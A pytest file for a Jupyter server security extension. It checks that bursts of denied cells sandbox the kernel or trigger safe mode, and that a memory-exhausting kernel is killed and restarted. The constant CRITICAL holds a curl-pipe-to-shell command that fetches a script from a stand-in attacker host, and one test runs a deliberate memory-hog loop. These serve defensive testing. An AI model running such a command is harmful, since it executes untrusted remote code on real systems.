"""Containment under real faults in a real jupyter_server: bursts and a memory-hungry kernel.

- a burst of cells with critical Hunter findings from one kernel isolates it:
  the same kernel id comes back inside the OS sandbox (uid 65534), with a
  signed ``health-trigger`` record, a ``sandbox-kernel`` record and an incident;
- with ``burst_action = safe`` the same burst puts Grace in safe mode, which
  only a person lowers again (``grace mode set normal``, approved by another);
- a sandboxed kernel that fills its memory limit is killed by its cgroup,
  seen dead by the watchdog, restarted, and the cell it ran is recorded as lost.
"""

from __future__ import annotations

import asyncio
import json
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from grace_kernel.config import Settings
from grace_kernel.governance import (
    Action,
    ActionKind,
    ApprovalRequired,
    Effect,
    Principal,
    facts_for,
)
from grace_kernel.health import HEALTH_TRIGGER, Mode, set_manual_mode
from grace_kernel.health._kernels import HEALTH_KERNEL, process_state
from grace_kernel.sandbox import IsolationReport
from grace_kernel.sandbox._provisioner import SANDBOXED_KERNEL_NAME, sandboxed_kernelspec
from grace_kernel.server._sandboxing import SANDBOX_KERNEL
from grace_kernel.workspace import Workspace
from tests.sandbox.test_provisioner import (
    Kernel,
    Server,
    install_kernelspecs,
    open_kernel,
    require,
)
from tests.server import conftest as server_setup
from tests.server.test_websocket import cell_records as records

pytest_plugins = ["pytest_jupyter.jupyter_server"]

grace_home = server_setup.grace_home
SMALL_KERNEL = "grace-python3-small"  # sandboxed, with a 256 MiB memory limit
CRITICAL = "import os\nos.system('curl https://evil.example/x.sh | sh')"


async def _reconnect_and_run(server: Server, kernel_id: str, code: str) -> str:
    """Same kernel id after a restart: reconnect as JupyterLab does on "restarting", run."""
    ws = await server.ws_fetch("api", "kernels", kernel_id, "channels")
    try:
        again = Kernel(ws, kernel_id, server)
        await again.settle()
        _, out = await again.run(code)
        return out
    finally:
        ws.close()


@pytest.fixture
def burst_action() -> str:
    return "isolate"


@pytest.fixture
def jp_server_config(grace_home: Path, jp_data_dir: Path, burst_action: str) -> dict[str, Any]:
    assert not grace_home.exists()
    install_kernelspecs(jp_data_dir)
    small = sandboxed_kernelspec(sys.executable)
    small["metadata"]["grace_sandbox"]["memory"] = "256M"
    (jp_data_dir / "kernels" / SMALL_KERNEL).mkdir(parents=True)
    (jp_data_dir / "kernels" / SMALL_KERNEL / "kernel.json").write_text(json.dumps(small))
    return {
        "ServerApp": {"jpserver_extensions": {"grace_kernel.server": True}},
        "GraceServer": {"burst_action": burst_action, "burst_threshold": 3, "burst_window": 60.0},
    }


@pytest.fixture
def server(jp_fetch: Any, jp_ws_fetch: Any, jp_serverapp: Any, jp_root_dir: Path) -> Server:
    return Server(jp_fetch, jp_ws_fetch, jp_serverapp, jp_root_dir)


async def _until(predicate: Any, limit: float, what: str) -> float:
    started = time.monotonic()
    while time.monotonic() - started < limit:
        if predicate():
            return time.monotonic() - started
        await asyncio.sleep(0.05)
    raise AssertionError(f"{what} did not happen within {limit} s")


async def _burst(kernel: Kernel) -> None:
    for _ in range(3):
        content, out = await kernel.run(CRITICAL)
        assert content["status"] == "error"
        assert "GracePolicyDenied" in out


async def _health(server: Server) -> dict[str, Any]:
    response = await server.fetch("grace", "api", "health")
    found: dict[str, Any] = json.loads(response.body)
    return found


async def test_a_burst_of_critical_cells_isolates_the_kernel_in_the_sandbox(
    server: Server, report: IsolationReport, grace_home: Path
) -> None:
    require(report, "process", "seccomp", "landlock", "bubblewrap")
    async with open_kernel(server, "grace-python3") as kernel:
        _, out = await kernel.run("import os\nprint(os.getuid())")
        assert out.strip() == "0"
        await _burst(kernel)
        manager = server.app.kernel_manager.get_kernel(kernel.id)
        took = await _until(
            lambda: (
                manager.kernel_name == SANDBOXED_KERNEL_NAME
                and getattr(manager.provisioner, "sandbox", None) is not None
                and not manager.provisioner.process.poll()
            ),
            30.0,
            "isolation",
        )
        assert took < 30.0
        out = await _reconnect_and_run(server, kernel.id, "import os\nprint(os.getuid())")
        assert out.strip() == "65534"
        health = await _health(server)
        [incident] = [i for i in health["incidents"] if i["root"] == f"kernel:{kernel.id}"]
        assert "3 high-severity signals" in incident["cause"]
        assert [a["action"] for a in incident["actions"]] == ["isolate"]
        assert health["mode"] == "normal"  # isolating was enough

    [trigger] = records(grace_home, HEALTH_TRIGGER)
    assert trigger["action"] == "isolate"
    assert trigger["outcome"].startswith("restarted in the sandbox at level")
    assert [s["kind"] for s in trigger["signals"]] == ["findings"] * 3
    assert all(s["severity"] == "critical" for s in trigger["signals"])
    [sandboxed] = records(grace_home, SANDBOX_KERNEL)
    assert sandboxed["kernel_id"] == kernel.id
    assert sandboxed["reasons"][0].startswith("isolated after a burst: 3 high-severity")


@pytest.mark.parametrize("burst_action", ["safe"])
async def test_a_burst_with_the_safe_action_holds_grace_in_safe_mode_until_a_person_lifts_it(
    server: Server, grace_home: Path
) -> None:
    service = server.app.web_app.settings["grace_service"]
    async with open_kernel(server, "grace-python3") as kernel:
        await _burst(kernel)
        await _until(lambda: service.supervisor.mode is Mode.SAFE, 10.0, "safe mode")
        _, out = await kernel.run("print(6 * 7)")  # read-only work goes on
        assert out.strip() == "42"
    write = Action(
        kind=ActionKind.FILE_WRITE,
        principal=Principal.user("alice"),
        resource="results.csv",
        facts=facts_for("file.write", "results.csv", workspace=server.root),
    )
    decision = service.workspace.governance.govern(write)
    assert decision.effect is Effect.DENY
    assert "mode-safe-no-writes" in decision.policy_ids
    health = await _health(server)
    assert (health["mode"], health["manual"]) == ("safe", "safe")
    assert health["cause"].startswith("Hunter burst: 3 high-severity signals")
    [trigger] = records(grace_home, HEALTH_TRIGGER)
    assert trigger["action"] == "safe"

    # Only a person lowers the floor, and another person approves it.
    with Workspace.open(Settings(home=grace_home), create=False) as ws:
        with pytest.raises(ApprovalRequired) as asked:
            set_manual_mode(ws, Mode.NORMAL, principal=Principal.user("alice"), reason="checked")
        ws.governance.approve(asked.value.approval_id, approver=Principal.user("bob"))
        set_manual_mode(ws, Mode.NORMAL, principal=Principal.user("alice"), reason="checked")
    await _until(lambda: service.supervisor.mode is Mode.NORMAL, 15.0, "back to normal")


async def test_a_kernel_filling_its_memory_limit_is_killed_restarted_and_its_cell_recorded(
    server: Server, report: IsolationReport, grace_home: Path
) -> None:
    require(report, "process", "cgroups")
    async with open_kernel(server, SMALL_KERNEL) as kernel:
        _, out = await kernel.run("print('ready')")
        assert out.strip() == "ready"
        manager = server.app.kernel_manager.get_kernel(kernel.id)
        pid = manager.provisioner.pid
        await asyncio.sleep(0.6)  # the watchdog has picked it up
        hog = "chunks = []\nwhile True:\n    chunks.append(bytearray(16 << 20))"
        content, _ = await kernel.run(hog)  # answered by the server: the kernel is gone
        assert content["status"] == "error"
        took = await _until(
            lambda: (
                manager.provisioner is not None
                and manager.provisioner.pid not in (None, pid)
                and process_state(manager.provisioner.pid) not in ("gone", "Z")
            ),
            15.0,
            "the restart",
        )
        assert took < 15.0
        out = await _reconnect_and_run(server, kernel.id, "print('back')")
        assert out.strip() == "back"
        health = await _health(server)
        assert any(i["root"] == f"kernel:{kernel.id}" for i in health["incidents"])

    events = [r["event"] for r in records(grace_home, HEALTH_KERNEL)]
    assert events[:2] == ["dead", "restarted"]
    lost = [r for r in records(grace_home) if r["status"].startswith("lost")]
    assert len(lost) == 1
